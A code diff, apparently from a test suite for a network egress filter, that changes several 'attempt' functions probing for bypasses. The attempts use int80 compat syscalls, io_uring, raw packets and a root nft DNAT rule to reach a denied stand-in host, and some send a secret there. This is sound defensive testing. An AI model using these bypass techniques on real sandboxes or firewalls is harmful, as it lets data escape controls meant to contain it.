@@ -103,7 +103,7 @@ def cffi_connect(aim):
     finish(fd, aim.request())
 
 
-@attempt("calls", "feature:int80", alone=True, quick=True)
+@attempt("calls", "feature:int80", alone=True)
 def int80_connect(aim):
     fd = tcp().detach()
     machine.compat_call(362, fd, page(TO4), 16)
@@ -126,7 +126,7 @@ def int80_sendto(aim):
     machine.compat_call(102, 11, page(struct.pack("=IIIIII", fd, text, len(aim.secret), 0, page(UDP4), 16)))
 
 
-@attempt("calls", "feature:int80")
+@attempt("calls", "feature:int80", quick=True)
 def int80_in_a_fork(aim):
     child = os.fork()
     if child == 0:
@@ -192,7 +192,7 @@ def _ring_before(aim):
     return machine.Ring()
 
 
-@attempt("calls", "feature:io_uring", X86, before=_ring_before)
+@attempt("calls", "feature:io_uring", X86, before=_ring_before, alone=True)
 def io_uring_made_before(aim, ring):
     fd = tcp().detach()
     ring.submit(16, fd, page(TO4), 0, offset=16)
@@ -274,7 +274,7 @@ KINDS = {"v4": (socket.AF_INET, 0, (world.DENIED4, 80)), "v6": (socket.AF_INET6,
 
 def _fast(aim, way, family, protocol, to):
     with socket.socket(family, socket.SOCK_STREAM, protocol) as opened:
-        opened.settimeout(2)
+        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("=qq", 2, 0))
         way(opened, to, aim.request())
         opened.recv(100)
 
@@ -403,23 +403,15 @@ def packet_cooked(aim):
     opened.sendto(_udp_packet(aim.secret), ("lo", 0x0800, 0, 0, b"\0" * 6))
 
 
-@attempt("families", "root", "program:ip")
-def address_taken_over(aim):
-    """Root makes the denied address an alias of the route to an allowed one, or adds it to itself: the server stays another."""
-    socket.getaddrinfo("denied.test", 80)
-    subprocess.run(["ip", "route", "replace", "local", f"{world.DENIED4}/32", "dev", "lo"], check=False)
-    opened = socket.create_connection((world.DENIED4, 80), 2)
-    finish(opened.detach(), aim.request())
-
-
 @attempt("families", "root", "program:nft")
 def translation_rule(aim):
     """Root writes a rule that sends an allowed address elsewhere."""
-    rules = f"table ip t {{ chain c {{ type nat hook output priority -100; ip daddr {world.PARTNER4} dnat to {world.DENIED4}; }} }}"
+    chain = f"chain c {{\n type nat hook output priority -100;\n ip daddr {world.PARTNER4} dnat to {world.DENIED4}\n}}"
+    rules = f"table ip t {{\n{chain}\n}}"
     try:
         subprocess.run(["nft", "-f", "-"], input=rules.encode(), check=False)
         opened = socket.create_connection(("shop.partner.test", 80), 2)
-        finish(opened.detach(), aim.request())
+        finish(opened.detach(), aim.request("shop.partner.test"))
     finally:
         subprocess.run(["nft", "delete", "table", "ip", "t"], check=False)
 
